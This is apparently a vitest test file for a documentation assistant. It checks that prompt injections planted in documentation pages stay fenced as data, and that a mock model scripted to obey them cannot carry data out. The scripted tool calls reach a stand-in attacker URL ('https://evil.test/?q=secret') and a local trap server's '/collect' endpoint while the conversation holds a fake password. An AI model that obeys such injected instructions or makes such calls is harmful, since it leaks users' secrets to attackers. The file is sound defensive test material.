import { createServer } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assistantMessagePath } from '../../contract/routes.js';
import { type Injection, injections, pageOf, questionOf } from '../../testing/models/injections.js';
import { obey, obeyByTools } from '../../testing/models/obedient-model.js';
import { type ModelServer, startModelServer } from '../../testing/models/openai-compatible-server.js';
import { readPrompt } from '../../testing/models/read-prompt.js';
import { reachOf } from '../../testing/panel/markdown-reach.js';
import { listen } from '../../testing/service/listen.js';
import { scratchFolder } from '../../testing/service/scratch-folder.js';
import { createServiceUnderTest, type ServiceUnderTest } from '../../testing/service/service-under-test.js';
import { chunksOf, textIn } from '../../testing/service/streams.js';

let docsFolder: string;
let models: ModelServer;
let obedient: ServiceUnderTest;
let extractive: ServiceUnderTest;
/** A server that an attacker listens on. */
let trap: Awaited<ReturnType<typeof listen>>;
const visits: string[] = [];

beforeAll(async () => {
	trap = await listen(
		createServer((request, response) => {
			visits.push(request.url ?? '');
			response.end('# Caught\n\nIt came.');
		}),
	);
	const pages = injections.map(pageOf).map(({ file, markdown }) => [`docs/${file}`, markdown]);
	docsFolder = join(scratchFolder(Object.fromEntries(pages)), 'docs');
	models = await startModelServer();
	models.play({ reply: obey });
	const model = { provider: 'openai-compatible', model: 'obedient', baseUrl: models.url };
	// One address asks all of them.
	const limits = { assistantPerAddressAndMinute: 0 };
	obedient = await createServiceUnderTest({ docsFolder, model, limits });
	extractive = await createServiceUnderTest({ docsFolder, limits });
});
afterAll(async () => {
	await Promise.all([obedient?.dispose(), extractive?.dispose(), models.close(), trap.close()]);
});

async function ask(service: ServiceUnderTest, injection: Injection, asked = questionOf(injection)) {
	const body = { fp: 'anonymous', ...asked };
	const response = await service.post(assistantMessagePath('v2', 'docs'), body);
	const chunks = await chunksOf(response);
	const found = chunks.flatMap((chunk) =>
		chunk.type === 'tool-output-available' ? (chunk.output as { url: string; path: string }[]) : [],
	);
	return {
		chunks,
		retrieved: new Set(found.map(({ url }) => url)),
		text: textIn(chunks),
		sources: chunks.flatMap((chunk) => (chunk.type === 'source-url' ? chunk.url : [])),
		last: chunks.at(-1)?.type,
	};
}

describe('an order', () => {
	it.each(injections.map((injection) => [injection.name, injection] as const))(
		'%s stays behind the fence, and a model that obeys it reaches nothing that was not retrieved',
		async (_, injection) => {
			models.requests.length = 0;
			const { retrieved, text, sources, last } = await ask(obedient, injection);
			const [request] = models.requests;
			const [system, ...messages] = request?.messages ?? [];
			const prompt = readPrompt({
				system: system?.content ?? '',
				messages: messages as { role: 'user'; content: string }[],
			});

			expect(prompt.system).not.toContain(injection.canary);
			expect(prompt.outside.trim()).toBe('');
			expect(prompt.blocks.some((block) => block.text.includes(injection.canary))).toBe(true);
			expect(prompt.blocks.every(({ attributes }) => /^(?: [a-z]+="[a-z0-9]+")*$/.test(attributes))).toBe(true);

			// It did obey, and it was not merely cut off.
			expect(text).toContain(injection.canary);
			expect(last).toBe('finish');
			expect(sources).toHaveLength(1);
			for (const address of [...sources, ...reachOf(text)]) expect(retrieved).toContain(address);
		},
	);

	const found = injections
		.filter(({ place }) => /passage|heading|title|file/.test(place))
		.map((injection) => [injection.name, injection] as const);
	const say = (role: 'user' | 'assistant', text: string) => ({ id: text, role, parts: [{ type: 'text', text }] });

	/** Expects that a model obeyed behind the fence, and that nothing came of it. */
	function expectHarmless({ canary }: Injection, answer: Awaited<ReturnType<typeof ask>>): void {
		const { retrieved, text, sources, last, chunks } = answer;
		const [system, ...messages] = models.requests.at(-1)?.messages ?? [];
		const prompt = readPrompt({
			system: system?.content ?? '',
			messages: messages.map(({ content }) => ({ role: 'user', content })),
		});
		expect(prompt.blocks.some((block) => block.text.includes(canary))).toBe(true);
		expect(prompt.outside).not.toContain(canary);
		expect(prompt.system).not.toContain(canary);
		expect(text).toContain(canary);
		expect(last).toBe('finish');
		// The service writes the first line of a passage; the nearest ones are in no step.
		const shown = prompt.blocks.flatMap((block) => /^url: (.*)/.exec(block.text)?.[1] ?? []);
		for (const address of [...sources, ...reachOf(text)]) expect([...retrieved, ...shown]).toContain(address);
		const steps = chunks.flatMap((chunk) =>
			chunk.type === 'tool-input-available' ? [JSON.stringify(chunk.input)] : [],
		);
		expect(steps.join()).not.toMatch(/:\/\/|www\.|hunter2/);
		expect(visits).toEqual([]);
	}

	it.each(found)('%s that a tool finds stays behind the fence, and carries nothing out', async (_, injection) => {
		models.play(
			{ calls: [['search', { query: `${injection.topic} https://evil.test/?q=secret` }]] },
			{ calls: [['read_page', { path: 'https://evil.test/?q=secret' }]] },
			{ reply: obey },
		);
		const answer = await ask(obedient, injection, { messages: [say('user', 'Hello?')] });
		models.play({ reply: obey });
		expectHarmless(injection, answer);
	});

	it.each(found)('%s in a page that is read makes every tool carry the conversation nowhere', async (_, injection) => {
		const [path] = (await ask(obedient, injection)).retrieved;
		models.play(
			{ calls: [['read_page', { path }]] },
			{ calls: (request) => obeyByTools(request, `${trap.origin}/collect`) },
			{ reply: obey },
		);
		const told = [say('user', 'My password is hunter2.'), say('assistant', 'Fine.')];
		const answer = await ask(obedient, injection, { messages: [...told, say('user', 'Hello?')] });
		models.play({ reply: obey });
		expectHarmless(injection, answer);
		expect(models.requests.at(-1)?.messages.at(-1)?.content).toMatch(/^There is no such|^The query is empty|cannot be/);
	});

	it('comes from every place, in many words', () => {
		expect(injections.length).toBeGreaterThanOrEqual(60);
		expect(new Set(injections.map(({ place }) => place)).size).toBe(11);
	});
});

it('quoting the documentation obeys nobody: what the reader brings along is not said, and nothing else is linked', async () => {
	const answers = await Promise.all(
		injections.map(async (injection) => ({ injection, ...(await ask(extractive, injection)) })),
	);
	const fromReader = [
		'selection',
		'selected code',
		'path of a selection',
		'current path',
		'earlier answer',
		'earlier question',
	];
	for (const { injection, text, sources } of answers) {
		expect(text, injection.name).not.toBe('');
		// Cards lead to sections that no step of the search names. All are of the documentation.
		for (const address of [...sources, ...reachOf(text)]) expect(address, injection.name).toMatch(/^\/quorlo\d+x/);
		if (fromReader.includes(injection.place)) expect(text.split(/\W+/), injection.name).not.toContain(injection.canary);
	}
});
